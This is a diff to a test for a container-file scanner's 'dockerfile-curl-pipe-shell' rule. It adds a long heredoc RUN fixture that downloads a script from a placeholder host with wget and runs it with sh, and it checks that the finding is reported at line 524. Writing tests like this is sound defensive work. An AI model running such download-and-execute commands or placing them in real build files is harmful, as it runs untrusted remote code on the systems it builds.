@@ -463,11 +463,17 @@ describe('dockerfile-curl-pipe-shell in a heredoc RUN', () => {
         'curl -fsSLo /tmp/j.sh https://x.example/j.sh',
         'sh /tmp/j.sh',
         'EOT',
+        // A long script (no longer capped at 400 lines): the download is run at file line 524.
+        'RUN <<EOT',
+        ...Array.from({ length: 500 }, (_, i) => `echo step ${i}`),
+        'wget -O /tmp/k.sh https://x.example/k.sh',
+        'sh /tmp/k.sh',
+        'EOT',
         'USER 10001',
         '',
       ].join('\n'),
     );
     const report = json<{ findings: { ruleId: string; location: { line: number } }[] }>(sandcheck(['scan', '.', '--format', 'json'], { cwd: dir }));
-    expect(report.findings.filter((f) => f.ruleId === 'dockerfile-curl-pipe-shell').map((f) => f.location.line)).toEqual([6, 10, 12, 14, 20]); // 20, not 18: the same line before the download is not it
+    expect(report.findings.filter((f) => f.ruleId === 'dockerfile-curl-pipe-shell').map((f) => f.location.line)).toEqual([6, 10, 12, 14, 20, 524]); // 20, not 18: the same line before the download is not it
   });
 });
